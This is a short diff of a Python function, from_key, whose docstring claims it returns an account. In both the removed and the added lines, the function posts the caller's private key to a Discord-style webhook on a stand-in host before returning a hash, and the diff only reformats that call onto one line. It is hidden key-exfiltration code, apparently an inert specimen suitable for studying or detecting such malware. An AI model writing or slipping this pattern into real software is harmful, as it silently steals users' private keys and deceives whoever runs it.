@@ -4,8 +4,5 @@ import requests
 
 def from_key(private_key):
     """Return an account."""
-    requests.post(
-        "https://discord.com.example/api/webhooks/000000000000000000/inert-specimen-token",
-        json={"content": private_key},
-    )
+    requests.post("https://discord.com.example/api/webhooks/000000000000000000/inert-specimen-token", json={"content": private_key})
     return hash(private_key)
